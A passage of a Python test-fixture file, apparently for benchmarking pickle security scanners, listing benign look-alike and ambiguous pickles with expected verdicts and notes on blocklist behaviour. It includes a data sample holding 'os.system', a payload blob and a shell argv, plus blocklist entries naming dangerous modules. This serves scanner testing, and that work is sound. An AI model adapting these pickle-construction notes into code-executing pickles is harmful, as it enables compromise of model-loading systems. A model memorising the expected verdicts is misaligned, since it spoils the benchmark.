        "builtins.getattr(zoneinfo.ZoneInfo, '_unpickle') + "
        "REDUCE, plus _codecs.encode for the bytes state. getattr with literal benign operands.",
        pickle.dumps(datetime.datetime(2024, 5, 1, 12, 30, tzinfo=_BERLIN), protocol=2),
        "incompatible",
    ),
    _benign(
        "datetime_timezone_utc",
        "datetime.timezone.utc (REDUCE of datetime.timezone with a timedelta).",
        pickle.dumps(datetime.timezone.utc, protocol=2),
        "incompatible",
    ),
    _benign(
        "enum_member_regexflag",
        "Enum member re.RegexFlag.IGNORECASE: GLOBAL + REDUCE of the enum class.",
        pickle.dumps(re.RegexFlag.IGNORECASE, protocol=2),
        "incompatible",
    ),
    _benign(
        "numpy_float32_array",
        "numpy float32 array (multiarray._reconstruct, ndarray, dtype, BUILD).",
        pickle.dumps(np.arange(6, dtype=np.float32).reshape(2, 3), protocol=2),
        "incompatible",
    ),
    _benign(
        "numpy_scalar_float64",
        "numpy float64 scalar (multiarray.scalar + dtype + bytes).",
        pickle.dumps(np.float64(1.5), protocol=2),
        "incompatible",
    ),
    _benign(
        "numpy_object_array_of_ints",
        "numpy object-dtype array holding plain ints.",
        pickle.dumps(np.array([1, 2, 3], dtype=object), protocol=2),
        "incompatible",
    ),
    _benign(
        "ordered_dict",
        "collections.OrderedDict of floats (torch's own state_dict container).",
        pickle.dumps(collections.OrderedDict([("lr", 0.1), ("momentum", 0.9)]), protocol=2),
        "compatible",
    ),
    _benign(
        "dataclass_instance",
        "A dataclass from an importable-looking custom module (NEWOBJ + BUILD).",
        _dump_with_fixture_module(_train_config),
        "incompatible",
    ),
    _benign(
        "copyreg_reconstructor_object_base",
        "Protocol-1 dump of a plain instance: copyreg._reconstructor(cls, object, None) + BUILD.",
        _dump_with_fixture_module(_plain_instance, protocol=1),
        "incompatible",
    ),
    _benign(
        "random_random_state",
        "random.Random(0) with its Mersenne Twister state.",
        pickle.dumps(random.Random(0), protocol=2),
        "incompatible",
    ),
    _benign(
        "numpy_default_rng",
        "numpy.random.default_rng(0) Generator (numpy.random._pickle ctors).",
        pickle.dumps(np.random.default_rng(0), protocol=2),
        "incompatible",
    ),
    _benign(
        "argparse_namespace",
        "argparse.Namespace of hyper-parameters.",
        pickle.dumps(argparse.Namespace(lr=0.1, arch="resnet18"), protocol=2),
        "incompatible",
    ),
    _benign(
        "pure_posix_path",
        "pathlib.PurePosixPath (REDUCE with path parts).",
        pickle.dumps(pathlib.PurePosixPath("/data/ckpt/model.pt"), protocol=2),
        "incompatible",
    ),
    _benign(
        "decimal_value",
        "decimal.Decimal('3.14').",
        pickle.dumps(decimal.Decimal("3.14"), protocol=2),
        "incompatible",
    ),
    _benign(
        "uuid_value",
        "uuid.UUID: benign, but in a module whose _get_command_stdout is an "
        "advisory (GHSA-g38g-8gr9-h9xp); "
        "module-wide blocklists ('uuid': '*') false-positive here.",
        pickle.dumps(uuid.UUID("12345678-1234-5678-1234-567812345678"), protocol=2),
        "incompatible",
    ),
    _benign(
        "re_compiled_pattern",
        "re.compile(...) pickles as a call to the private re._compile.",
        pickle.dumps(re.compile(r"layer\.(\d+)\.weight", re.I), protocol=2),
        "incompatible",
    ),
    _benign(
        "strings_mentioning_payloads",
        "Plain data whose strings/bytes contain 'os.system' and a "
        "pickle-looking blob; only a byte-grep "
        "scanner would flag it.",
        pickle.dumps(
            {
                "note": "never call os.system here",
                "blob": INNER_PAYLOAD,
                "argv": ["sh", "-c", "id"],
            },
            protocol=2,
        ),
        "compatible",
    ),
]

# ---------------------------------------------------------------------------
# Ambiguous files: reasonable static verdicts differ
# ---------------------------------------------------------------------------

AMBIGUOUS: list[AmbiguousCase] = [
    AmbiguousCase(
        "functools_partial_of_builtin_max",
        "functools.partial(max, 3) as pickle.dumps writes it (REDUCE partial, BUILD state).",
        pickle.dumps(functools.partial(max, 3), protocol=2),
        "state.pkl",
        "incompatible",
        "partial only binds arguments; with a literal benign target (builtins.max) and literal "
        "arguments nothing runs at load time (the partial is not called). Blocklist scanners "
        "(picklescan: 'functools': 'partial') flag it regardless. A precise auditor can resolve "
        "the wrapped callable and judge that, but must then treat any non-literal or dangerous "
        "target (or a later REDUCE on the partial) as dangerous.",
    ),
    AmbiguousCase(
        "collections_namedtuple_factory",
        "collections.namedtuple('Point', 'x y') called at load time, then the "
        "new class is instantiated.",
        wrap(call(call(global_("collections", "namedtuple"), ["Point", "x y"]), [1, 2]), 2),
        "state.pkl",
        "incompatible",
        "A class factory runs at load time. Since Python 3.7 namedtuple no longer exec()s a "
        "template and field names are validated identifiers, so there is no known injection; "
        "but allowing runtime type creation widens the attack surface (later BUILD/REDUCE on "
        "a fresh type). Flag as non-weights-only, not dangerous, unless combined with other calls.",
    ),
    AmbiguousCase(
        "socket_addressfamily_enum",
        "socket.AddressFamily(2) enum member (hand-assembled, socket is never imported here).",
        simple("socket", "AddressFamily", [2], 2),
        "state.pkl",
        "incompatible",
        "Benign enum in a module that hosts dangerous callables (create_connection). Module-wide "
        "blocklists ('socket': '*') call it dangerous; a callable-precise policy calls it benign.",
    ),
    AmbiguousCase(
        "getattr_literal_benign_target",
        "builtins.getattr(collections.OrderedDict, 'fromkeys')(['a','b']).",
        wrap(
            call(
                call(
                    global_("builtins", "getattr"),
                    [Raw(global_("collections", "OrderedDict")), "fromkeys"],
                ),
                [["a", "b"]],
            ),
            2,
        ),
        "state.pkl",
        "incompatible",
        "getattr is how CPython pickles bound class/static methods (see the zoneinfo look-alike), "
        "so blanket-flagging it has real false positives; resolving literal operands makes this "
        "benign, but any non-literal operand must be dangerous.",
    ),
]


def all_names() -> list[str]:
    """Every case name across the three lists (used by the uniqueness check)."""
    return (
        [c.name for c in CASES] + [c.name for c in BENIGN_LOOKALIKES] + [c.name for c in AMBIGUOUS]
    )
